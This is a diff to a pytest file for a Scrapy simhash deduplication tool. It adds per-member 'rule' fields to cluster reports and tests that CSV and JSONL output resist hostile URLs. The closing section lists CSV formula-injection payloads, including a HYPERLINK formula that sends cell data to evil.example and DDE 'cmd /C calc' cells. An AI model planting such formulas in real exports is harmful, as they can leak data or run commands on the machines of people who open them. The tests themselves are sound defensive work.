@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from simhash_scrapy.backends import ClusterMember
-from simhash_scrapy.core.clustering import Outcome
+from simhash_scrapy.core.clustering import Outcome, Rule, rule_of
 from simhash_scrapy.core.files import atomic_write, write_atomic
 from simhash_scrapy.core.report import (
     CHANGED_COLUMNS,
@@ -47,17 +47,18 @@ MEMBERS = [
 
 
 def test_build_clusters() -> None:
-    clusters = build_clusters(MEMBERS)
+    clusters = build_clusters(MEMBERS, max_distance=4)
     assert clusters == [
         {
             "cluster_id": 1,
             "canonical": "http://x/a",
             "size": 3,
             "scope": "s",
+            "max_distance": 4,
             "members": [
-                {"url": "http://x/a", "fingerprint": "0f0f0000000000ff", "distance": 0, "referer": None, "depth": 0},
-                {"url": "http://x/a?s=1", "fingerprint": "0f0f0000000000fe", "distance": 1, "referer": "http://x/a", "depth": 1},
-                {"url": "http://x/a?s=2", "fingerprint": "0f0f0000000000fc", "distance": 2, "referer": "http://x/", "depth": 2},
+                {"url": "http://x/a", "fingerprint": "0f0f0000000000ff", "distance": 0, "referer": None, "depth": 0, "rule": None},
+                {"url": "http://x/a?s=1", "fingerprint": "0f0f0000000000fe", "distance": 1, "referer": "http://x/a", "depth": 1, "rule": "simhash"},
+                {"url": "http://x/a?s=2", "fingerprint": "0f0f0000000000fc", "distance": 2, "referer": "http://x/", "depth": 2, "rule": "simhash"},
             ],
         },
         {
@@ -65,12 +66,44 @@ def test_build_clusters() -> None:
             "canonical": "http://x/c",
             "size": 2,
             "scope": "s",
+            "max_distance": 4,
             "members": [
-                {"url": "http://x/c", "fingerprint": "00000000ffff0000", "distance": 0, "referer": None, "depth": None},
-                {"url": "http://x/c/print", "fingerprint": "00000000ffff0007", "distance": 3, "referer": "http://x/c", "depth": 1},
+                {"url": "http://x/c", "fingerprint": "00000000ffff0000", "distance": 0, "referer": None, "depth": None, "rule": None},
+                {"url": "http://x/c/print", "fingerprint": "00000000ffff0007", "distance": 3, "referer": "http://x/c", "depth": 1, "rule": "simhash"},
             ],
         },
+    ]  # fmt: skip
+    # Without k a simhash member's rule is unknown (None), never guessed.
+    assert {m["rule"] for c in build_clusters(MEMBERS) for m in c["members"]} == {None}
+
+
+def test_each_member_names_its_rule_and_k() -> None:
+    """simhash within k, exact short page, one edit (farther than k): the vocabulary of core.clustering.Rule."""
+    members = [
+        member("http://x/p", 0xFF),
+        member("http://x/p?a", 0xFF ^ 0b111, "http://x/p", 3),  # within k = 3
+        member("http://x/p?b", 0xFF ^ 0xF0F0, "http://x/p", 8),  # 8 > k: only the one-edit rule finds it
+        member("http://x/s", 77, exact=True),
+        member("http://x/s?c", 77, "http://x/s", 0, exact=True),
     ]
+    clusters = build_clusters(members, max_distance=3)
+    rules = {m["url"]: m["rule"] for c in clusters for m in c["members"]}
+    assert rules == {"http://x/p": None, "http://x/p?a": "simhash", "http://x/p?b": "one_edit",
+                     "http://x/s": None, "http://x/s?c": "exact"}  # fmt: skip
+    # k = 8: the same distance is within k.
+    assert build_clusters(members, max_distance=8)[0]["members"][2]["rule"] == "simhash"
+    records = [json.loads(line) for line in render_report(clusters, "jsonl").splitlines()]
+    assert [r["max_distance"] for r in records] == [3, 3]
+    assert [m["rule"] for m in records[0]["members"]] == [None, "simhash", "one_edit"]
+    rows = list(csv.DictReader(render_report(clusters, "csv").splitlines()))
+    assert [(r["url"], r["rule"], r["max_distance"]) for r in rows] == [
+        ("http://x/p", "", "3"), ("http://x/p?a", "simhash", "3"), ("http://x/p?b", "one_edit", "3"),
+        ("http://x/s", "", "3"), ("http://x/s?c", "exact", "3"),
+    ]  # fmt: skip
+    assert Rule.ONE_EDIT.describe(8, 3) == "one edit, distance 8 > k=3"
+    assert Rule.SIMHASH.describe(3, 3) == "simhash within k=3, distance 3"
+    assert Rule.EXACT.describe(0, 3) == "exact short page, distance 0, k=3"
+    assert rule_of(False, 4, 3) is Rule.ONE_EDIT and rule_of(False, 3, 3) is Rule.SIMHASH and rule_of(True, 0, 3) is Rule.EXACT
 
 
 def test_scopes_are_separate_clusters_and_mappings_work() -> None:
@@ -94,11 +127,11 @@ def test_text_is_kept_only_when_asked() -> None:
 
 
 def test_jsonl_and_csv_files(tmp_path: Path) -> None:
-    clusters = build_clusters(MEMBERS)
+    clusters = build_clusters(MEMBERS, max_distance=4)
     path = write_report(tmp_path / "deep" / "r.jsonl", clusters, "jsonl")
     lines = path.read_text(encoding="utf-8").splitlines()
     assert [json.loads(line) for line in lines] == [{"type": "cluster", **c} for c in clusters]
-    assert list(json.loads(lines[0])) == ["type", "cluster_id", "canonical", "size", "scope", "members"]
+    assert list(json.loads(lines[0])) == ["type", "cluster_id", "canonical", "size", "scope", "max_distance", "members"]
 
     path = write_report(tmp_path / "r.csv", clusters, "csv")
     with path.open(newline="", encoding="utf-8") as fh:
@@ -107,8 +140,9 @@ def test_jsonl_and_csv_files(tmp_path: Path) -> None:
     assert len(rows) == 5
     assert rows[0] == {
         "cluster_id": "1", "cluster_size": "3", "scope": "s", "canonical": "http://x/a", "url": "http://x/a",
-        "fingerprint": "0f0f0000000000ff", "distance": "0", "referer": "", "depth": "0",
+        "fingerprint": "0f0f0000000000ff", "distance": "0", "referer": "", "depth": "0", "rule": "", "max_distance": "4",
     }
+    assert rows[1]["rule"] == "simhash"
     assert rows[4]["url"] == "http://x/c/print" and rows[4]["distance"] == "3"
     # No page changed (a first crawl): no changed-pages file.
     assert not (tmp_path / "r.changed.csv").exists()
@@ -306,3 +340,112 @@ def test_atomic_write_replaces_whole_or_not_at_all(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="mode"):
         with atomic_write(target, "ab"):
             pass
+
+
+# ------------------------------------------------------------- hostile content
+#: Cells a spreadsheet would run (OWASP, "CSV Injection"), also behind spaces and quotes.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "'=1+1", '"=1+1', "\u00a0@SUM(A1)", "\x0b-1",
+]  # fmt: skip
+#: Every character ``str.splitlines`` breaks a line on.
+LINE_BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+
+
+def is_formula(cell: str) -> bool:
+    """OWASP: a cell starting with = + - @ tab or a line break, also behind spaces and quotes."""
+    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip("'\" \t\r\n\x0b\x0c\xa0\u3000")[:1] in ("=", "+", "-", "@")
+
+
+def neutralised(cell: str) -> bool:
+    """What a spreadsheet sees: not a formula (a leading ' makes the cell text)."""
+    return cell.startswith("'") or not is_formula(cell)
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cell_neutralises_formulas(text: str) -> None:
+    from simhash_scrapy.core.report import csv_cell
+
+    assert csv_cell(text) == "'" + text
+    assert is_formula(text)  # the list holds real formulas
+    for harmless in ("https://x.example/a-b", "a=b", "shop#3f09", "0f0f0000000000ff", "", 3, None):
+        assert csv_cell(harmless) == harmless
+
+
+def hostile_members() -> list[ClusterMember]:
+    members = [member("https://shop.example/", 0x0F0F, scope="=cmd|'/C calc'!A0")]
+    for i, text in enumerate(FORMULAS + [f"https://shop.example/x{b}y" for b in LINE_BREAKS]):
+        members.append(
+            member(text, 0x0F0F ^ (1 << (i % 3)), "https://shop.example/", i % 3,
+                   referer=FORMULAS[i % len(FORMULAS)], depth=i, scope="=cmd|'/C calc'!A0")
+        )  # fmt: skip
+    return members
+
+
+def test_csv_report_of_hostile_urls_reads_back_neutralised(tmp_path: Path) -> None:
+    members = hostile_members()
+    clusters = build_clusters(members, max_distance=4)
+    path = write_report(tmp_path / "r.csv", clusters, "csv")
+    with path.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 1 + len(members)  # parseable: one row per member
+    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
+    cells = [cell for row in rows[1:] for cell in row]
+    assert all(neutralised(cell) for cell in cells), [c for c in cells if not neutralised(c)]
+    # Each text cell is the original with a quote in front when it was a formula, else unchanged.
+    urls = [row[CSV_COLUMNS.index("url")] for row in rows[1:]]
+    assert urls == ["'" + m.url if is_formula(m.url) else m.url for m in members]
+    assert {row[CSV_COLUMNS.index("scope")] for row in rows[1:]} == {"'=cmd|'/C calc'!A0"}
+    assert rows[2][CSV_COLUMNS.index("referer")] == "'" + FORMULAS[0]
+    # The changed pages' CSV too.
+    changes = [{"url": text, "scope": "@s", "fingerprint": "01", "previous_fingerprint": "02", "distance": None}
+               for text in FORMULAS]  # fmt: skip
+    write_report(tmp_path / "r.csv", clusters, "csv", changes=changes)
+    with (tmp_path / "r.changed.csv").open(newline="", encoding="utf-8") as fh:
+        changed = list(csv.reader(fh))[1:]
+    assert [row[1] for row in changed] == ["'" + text for text in FORMULAS]
+    assert all(neutralised(cell) for row in changed for cell in row)
+
+
+def test_jsonl_report_keeps_one_record_a_line_for_every_line_splitter(tmp_path: Path) -> None:
+    members = hostile_members()
+    members.append(member("https://shop.example/t\u2028" + "".join(LINE_BREAKS), 0x0F0E, "https://shop.example/", 1,
+                          scope="=cmd|'/C calc'!A0", referer="\u2029\x85"))  # fmt: skip
+    clusters = build_clusters(members, max_distance=4)
+    changes = [{"url": f"https://shop.example/c{b}", "scope": "s", "fingerprint": "01", "previous_fingerprint": None,
+                "distance": None} for b in LINE_BREAKS]  # fmt: skip
+    path = write_report(tmp_path / "r.jsonl", clusters, "jsonl", changes=changes)
+    text = path.read_text(encoding="utf-8")
+    lines = text.splitlines()
+    assert len(lines) == 1 + len(changes)  # one cluster, one line per changed page
+    assert lines == text.split("\n")[:-1]  # the same lines for a splitter that knows only "\n"
+    assert lines == path.read_bytes().decode("utf-8").splitlines()
+    records = [json.loads(line) for line in lines]
+    assert [m["url"] for m in records[0]["members"]] == [m.url for m in members]  # json.loads restores every character
+    assert records[0]["members"][-1]["referer"] == "\u2029\x85"
+    assert [r["url"] for r in records[1:]] == [c["url"] for c in changes]
+    assert not any(ch in text for ch in LINE_BREAKS if ch not in ("\n",))
+
+
+def test_dedup_of_hostile_items_writes_safe_csv_and_jsonl(tmp_path: Path) -> None:
+    """Item URLs taken from page data (``scrapy simhash dedup items.jsonl``): read back with csv and splitlines."""
+    from conftest import article_html, article_words
+    from test_commands import simhash  # a real ``scrapy`` process
+
+    body = article_html("Story", article_words(41))
+    urls = FORMULAS + [f"https://news.example/p{b}q" for b in LINE_BREAKS]
+    feed = tmp_path / "items.jsonl"
+    feed.write_text("".join(json.dumps({"url": url, "body": body}) + "\n" for url in urls), encoding="utf-8")
+    for fmt in ("csv", "jsonl"):
+        out = tmp_path / f"r.{fmt}"
+        proc = simhash("dedup", str(feed), "-o", str(out), cwd=tmp_path)
+        assert proc.returncode == 0, proc.stderr
+    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [row["url"] for row in rows] == ["'" + url if is_formula(url) else url for url in urls]
+    assert [row["canonical"] for row in rows] == ["'" + urls[0]] * len(urls)
+    assert all(neutralised(cell) for row in rows for cell in row.values())
+    assert [row["rule"] for row in rows] == [""] + ["simhash"] * (len(urls) - 1)
+    lines = (tmp_path / "r.jsonl").read_text(encoding="utf-8").splitlines()
+    (cluster,) = [json.loads(line) for line in lines]
+    assert [m["url"] for m in cluster["members"]] == urls
